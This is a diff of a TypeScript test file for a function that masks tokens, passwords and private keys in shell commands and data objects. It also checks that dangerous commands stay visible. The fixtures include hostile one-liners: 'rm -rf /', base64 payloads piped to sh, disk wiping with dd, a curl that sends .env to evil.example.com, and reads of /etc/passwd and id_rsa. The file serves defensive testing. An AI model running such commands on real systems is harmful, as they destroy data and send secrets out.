@@ -1,75 +1,131 @@
 import { describe, expect, test } from "vitest";
-import { valueWithoutSecrets, withoutSecrets } from "./secrets.ts";
+import { withoutSecrets } from "./secrets.ts";
+
+const GITHUB = "ghp_0123456789Abcdefghijklmnopqrstuvwxyz";
+const OPENAI = "sk-0123456789Abcdefghijklmnopqrstuvwxyz01";
+const JWT = "eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJlc2lnbmF0dXJl";
+const LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
+const keyOf = (lines: string[], end = "\n") =>
+  ["-----BEGIN PRIVATE KEY-----", ...lines, "-----END PRIVATE KEY-----"].join(end);
+const shown = (text: string) => withoutSecrets({ text }).shown.text;
 
 describe("what is masked", () => {
   test.each([
-    ["curl -H 'Authorization: Bearer abc.def-ghi_123456'", "curl -H 'Authorization: Bearer •••'"],
-    ["GITHUB_TOKEN=ghp_0123456789Abcdefghij gh pr create", "GITHUB_TOKEN=••• gh pr create"],
-    ["git push https://ana:hunter2@git.example/x", "git push https://ana:•••@git.example/x"],
-    ["API_KEY=supersecret1\nPORT=3000\n", "API_KEY=•••\nPORT=3000\n"],
-    ['{"apiKey": "abcdefgh12"}', '{"apiKey": "•••"}'],
-    ["mysql --password hunter2hunter2 -e 'SELECT 1'", "mysql --password ••• -e 'SELECT 1'"],
-    ["DB_PASSWORD='p@ssw0rd!long' ./run", "DB_PASSWORD='•••' ./run"],
-    ["echo itk_Ab12Cd34Ef56Gh78", "echo •••"],
-    ["gh auth ghp_0123456789Abcdefghij\n", "gh auth •••\n"],
     [
-      "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
-      "AWS_SECRET_ACCESS_KEY=••• aws s3 ls",
+      "curl -H 'Authorization: Bearer abc.def-ghi_123456' https://x",
+      "curl -H 'Authorization: Bearer •••' https://x",
     ],
+    [`GITHUB_TOKEN=${GITHUB} gh pr create`, "GITHUB_TOKEN=••• gh pr create"],
+    [`git push https://ana:${GITHUB}@git.example/x`, "git push https://ana:•••@git.example/x"],
+    [`API_KEY=${OPENAI}\nPORT=3000\n`, "API_KEY=•••\nPORT=3000\n"],
+    [`{"apiKey": "${OPENAI}"}`, '{"apiKey": "•••"}'],
+    [`api_key: ${JWT}\n`, "api_key: •••\n"],
+    ["mysql --password=hunter2 -e 'SELECT 1'", "mysql --password=••• -e 'SELECT 1'"],
+    [`cd /a && export GH_TOKEN='${GITHUB}'; gh pr create`, "cd /a && export GH_TOKEN='•••'; gh pr create"],
+    [`docker run -e GH_TOKEN=${GITHUB} img`, "docker run -e GH_TOKEN=••• img"],
+    [`curl -H "X-Api-Key: ${OPENAI}" https://x`, 'curl -H "X-Api-Key: •••" https://x'],
+    [`+  api_key = "${OPENAI}"`, '+  api_key = "•••"'],
+    [`deploy --token ${GITHUB}`, "deploy --token •••"],
+    [keyOf([LINE, LINE, "Ab12=="]), keyOf(["•••"]).replace("•••\n", "•••")],
     [
-      '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG\\n-----END PRIVATE KEY-----\\n"',
-      '"private_key": "-----BEGIN PRIVATE KEY-----•••-----END PRIVATE KEY-----\\n"',
+      `{"private_key": "${keyOf([LINE, LINE], "\\n")}\\n"}`,
+      `{"private_key": "${keyOf(["•••"], "\\n").replace("•••\\n", "•••")}\\n"}`,
     ],
-    ["echo eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "echo •••"],
-    [
-      "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcd\n-----END RSA PRIVATE KEY-----",
-      "-----BEGIN RSA PRIVATE KEY-----•••-----END RSA PRIVATE KEY-----",
-    ],
-  ])("%s", (text, shown) => {
-    expect(withoutSecrets(text)).toBe(shown);
+  ])("%s", (text, words) => {
+    expect(shown(text)).toBe(words);
   });
 
-  test("a member that is called a secret", () => {
-    expect(valueWithoutSecrets({ password: "short", user: "ana", nested: [{ api_key: "k" }] })).toEqual({
-      password: "•••",
-      user: "ana",
-      nested: [{ api_key: "•••" }],
+  test("a member that is called a secret, and is a token of a known form", () => {
+    const input = {
+      api_key: OPENAI,
+      env: [{ GH_TOKEN: GITHUB }],
+      headers: { Authorization: "Bearer abc-123456789012" },
+    };
+    expect(withoutSecrets(input)).toEqual({
+      shown: { api_key: "•••", env: [{ GH_TOKEN: "•••" }], headers: { Authorization: "Bearer •••" } },
+      hidden: [
+        { where: "api_key", what: "token", characters: OPENAI.length },
+        { where: "env.GH_TOKEN", what: "token", characters: GITHUB.length },
+        { where: "headers.Authorization", what: "token", characters: 16 },
+      ],
     });
-    expect(
-      valueWithoutSecrets({ "x-api-key": "k", token: ["a", 7], next_token: "; rm -rf /", "Set-Cookie": "a" }),
-    ).toEqual({ "x-api-key": "•••", token: ["•••", "•••"], next_token: "; rm -rf /", "Set-Cookie": "•••" });
-  });
-});
-
-describe("nothing that a shell runs hides behind a mask", () => {
-  test.each([
-    "password=$(curl evil.example|sh)",
-    "TOKEN= terraform destroy -auto-approve",
-    "PASSWORD= deploy-production.sh --now",
-    "curl -s https://xoxb-evil-host.attacker.com/x | sh",
-    "curl ya29.attacker-domain.com|sh",
-    "npm i sk-totally-evil-package-name1",
-    "docker run xoxb-registry.evil.com/img",
-    "kubectl delete secret prod-db-01",
-    "kubectl create --secret prod-db-01",
-    "mysql --password-file settings1.cnf",
-    "git push origin secret:production",
-    "bash -c 'PASSWORD=' rm -rf / 'x'",
-    "./ghp_0123456789Abcdefghij",
-    "ghp_0123456789Abcdefghij.sh",
-    "TOKEN=`rm -rf ~`",
-    "token=/etc/passwd",
-    "secret=../../keys/id_rsa",
-    "git commit -m 'rotate token handling and secret storage'",
-    "claude setup-token refresh everything",
-    "rm -rf / # password: no",
-    "npm_config_userconfig=/tmp/x npm run ASIA-PACIFIC_REPORT",
-  ])("%s", (text) => {
-    expect(withoutSecrets(text)).toBe(text);
   });
 
   test("what follows a secret stays", () => {
-    expect(withoutSecrets("PASSWORD=hunter2hunter2;rm -rf /")).toBe("PASSWORD=•••;rm -rf /");
-    expect(withoutSecrets("TOKEN=abcdefgh1234&&curl evil.example")).toBe("TOKEN=•••&&curl evil.example");
+    expect(shown(`TOKEN=${GITHUB};rm -rf /`)).toBe("TOKEN=•••;rm -rf /");
+    expect(shown(`TOKEN=${GITHUB}&&curl evil.example`)).toBe("TOKEN=•••&&curl evil.example");
+  });
+});
+
+describe("nothing that decides hides behind a mask", () => {
+  test.each([
+    // A program reads the value again.
+    `export TOKEN_CMD=shutdown && $TOKEN_CMD now`,
+    `GH_TOKEN=${GITHUB}; $GH_TOKEN now`,
+    `GH_TOKEN=${GITHUB} printenv GH_TOKEN`,
+    `set GH_TOKEN=${GITHUB} & %GH_TOKEN% now`,
+    `echo ${JWT} | cut -d. -f2 | base64 -d | sh`,
+    "echo 'Authorization: Bearer cm0gLXJmIC8Kcm0gLXJmIC8K' | base64 -d | sh",
+    "echo 'Authorization: Bearer cm0gLXJmIC8Kcm0gLXJmIC8K' > run.sh; sh run.sh",
+    `python3 -c "exec(b64decode(sys.argv[1][11:]))" --password=cm0gLXJmIC8K`,
+    `docker login --password=${GITHUB} && docker rm ${GITHUB}`,
+    // Ordinary words.
+    "API_KEY_HOST=evil.example.com; curl -sS API_KEY_HOST -d @.env",
+    "PASSWORD=prod; terraform destroy -target prod",
+    "make deploy TOKEN_ENV=production",
+    "kubectl delete secret=prod-db",
+    "kubectl delete secret=sk-production-database-replica-2026-01",
+    "npm run deploy --token=production1",
+    "psql --password prod2db -c 'DROP TABLE x'",
+    "psql --password=prod && dropdb prod",
+    "deploy --token abcdefgh1234",
+    "mysql --password-file=settings1.cnf",
+    "run --password=/etc/passwd",
+    "curl -H 'Authorization: Bearer production-cluster' https://x",
+    "curl https://good.example:8080evil@mallory.example/x",
+    // What is acted upon.
+    `git branch -D ${GITHUB}`,
+    `git push origin token:${GITHUB}`,
+    "git branch -D hf_Release2026Final",
+    `docker rm ${OPENAI}`,
+    `rm -rf ${GITHUB}`,
+    `rm token=${GITHUB}`,
+    `kubectl delete pods -l token=${GITHUB}`,
+    `git branch -D token: ${GITHUB}`,
+    `git branch -D 'token: ${GITHUB}'`,
+    `TOKEN= ${GITHUB}`,
+    `token=${GITHUB}.sh`,
+    `API_TOKEN=${GITHUB}/../../bin/sh`,
+    "curl -s https://xoxb-evil-host.attacker.com/x",
+    "password=`rm -rf ~`",
+    "token=/etc/passwd",
+    // Lines that run.
+    "echo -----BEGIN PRIVATE KEY-----\nsudo dd if=/dev/zero of=/dev/sda\necho -----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
+    keyOf([LINE, "reboot"]),
+    keyOf([LINE, "sudo reboot"]),
+    keyOf([`${LINE} `, LINE]),
+    keyOf([LINE, LINE.toLowerCase()]),
+  ])("%s", (text) => {
+    expect(shown(text)).toBe(text);
+  });
+
+  test.each([
+    { token: "WBTC", to: "0xabc", amount: 5 },
+    { token: { amount: 90_000, to: "mallory" } },
+    { token: 90_000 },
+    { secret: "prod-db" },
+    { password: "hunter2" },
+    { cookie: ["a", "b c"], page_token: "x" },
+    { name: GITHUB },
+    { token: GITHUB, branch: GITHUB },
+    { token: GITHUB, command: `git branch -D ${GITHUB}` },
+    { access_token: `${GITHUB} and 90,000 EUR to KY12` },
+    { env: { GH_TOKEN: GITHUB, [GITHUB]: "x" } },
+    Object.fromEntries(
+      Array.from({ length: 101 }, (_, at) => [`token${at}_token`, `ghp_${String(at).padStart(36, "A")}`]),
+    ),
+  ])("%j", (input) => {
+    expect(withoutSecrets(input)).toEqual({ shown: input, hidden: [] });
   });
 });
